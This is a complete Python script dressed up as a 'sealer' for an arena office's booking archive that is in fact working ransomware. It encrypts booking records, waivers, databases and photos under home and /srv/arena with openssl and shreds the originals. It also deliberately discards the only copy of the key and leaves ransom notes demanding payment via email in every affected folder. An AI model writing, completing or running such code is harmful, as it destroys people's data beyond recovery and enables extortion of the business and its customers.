#!/usr/bin/env python3
"""Season archive "sealer" for the arena office PC.

Walks the booking, waiver and photo folders, seals every document with
openssl and removes the plain copies, leaving a note in each folder that
explains how to get the files back.
"""

import argparse
import logging
import os
import secrets
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("sealer")

TARGET_EXT = {".csv", ".xlsx", ".xls", ".docx", ".pdf", ".db", ".sqlite",
              ".jpg", ".jpeg", ".png", ".txt", ".json", ".odt", ".ods"}
SKIP_DIRS = {".git", "node_modules", "__pycache__", ".cache", ".local"}
NOTE_NAME = "RESTORE_YOUR_BOOKINGS.txt"
NOTE_TEXT = """Your booking records, waivers and photos have been sealed.
To get them back, email recover@example.org with the case id below
and wait for payment instructions. Do not rename the .sealed files.

case id: {case_id}
"""

SEAL_SCRIPT = r"""#!/bin/bash
set -u
sealed=0
while IFS= read -r -d '' f; do
    if openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:SEAL_KEY \
            -in "$f" -out "$f.sealed" 2>/dev/null; then
        shred -u -- "$f" 2>/dev/null || rm -f -- "$f"
        sealed=$((sealed + 1))
    fi
done < "$SEAL_LIST"
echo "$sealed"
"""


class Walker:
    """Finds every document worth sealing under the given roots."""

    def __init__(self, roots, max_size_mb):
        self.roots = [Path(r).expanduser() for r in roots]
        self.max_size = max_size_mb * 1024 * 1024
        self.dirs_touched = set()

    def walk(self):
        for root in self.roots:
            if not root.is_dir():
                LOG.debug("skipping missing root %s", root)
                continue
            for dirpath, dirnames, filenames in os.walk(root):
                dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
                for name in filenames:
                    path = Path(dirpath) / name
                    if name == NOTE_NAME or name.endswith(".sealed"):
                        continue
                    if path.suffix.lower() not in TARGET_EXT:
                        continue
                    try:
                        if path.stat().st_size > self.max_size:
                            continue
                    except OSError:
                        continue
                    self.dirs_touched.add(Path(dirpath))
                    yield path


class Sealer:
    def __init__(self, case_id):
        self.case_id = case_id
        self._key = secrets.token_urlsafe(32)

    def seal(self, files):
        with tempfile.NamedTemporaryFile("wb", delete=False, suffix=".lst") as lst:
            for f in files:
                lst.write(str(f).encode() + b"\0")
            list_path = lst.name
        with tempfile.NamedTemporaryFile("w", delete=False, suffix=".sh") as sh:
            sh.write(SEAL_SCRIPT)
            script_path = sh.name
        env = dict(os.environ, SEAL_KEY=self._key, SEAL_LIST=list_path)
        try:
            res = subprocess.run(["bash", script_path], env=env,
                                 capture_output=True, text=True, check=False)
        finally:
            os.unlink(list_path)
            os.unlink(script_path)
            self._key = None  # the only copy of the key goes away here
        try:
            return int(res.stdout.strip() or 0)
        except ValueError:
            LOG.warning("unexpected sealer output: %r", res.stdout)
            return 0

    def leave_notes(self, dirs):
        for d in dirs:
            try:
                (d / NOTE_NAME).write_text(NOTE_TEXT.format(case_id=self.case_id))
            except OSError as exc:
                LOG.debug("no note in %s: %s", d, exc)


def main():
    p = argparse.ArgumentParser(description="Seal the season's booking archive")
    p.add_argument("roots", nargs="*", default=["~", "/srv/arena"])
    p.add_argument("--max-size-mb", type=int, default=200)
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    walker = Walker(args.roots, args.max_size_mb)
    files = list(walker.walk())
    if not files:
        LOG.info("nothing to seal")
        return 0
    case_id = secrets.token_hex(6)
    sealer = Sealer(case_id)
    LOG.info("sealing %d files in %d folders", len(files), len(walker.dirs_touched))
    count = sealer.seal(files)
    sealer.leave_notes(walker.dirs_touched)
    LOG.info("sealed %d files, case %s", count, case_id)
    return 0 if count else 1


if __name__ == "__main__":
    sys.exit(main())
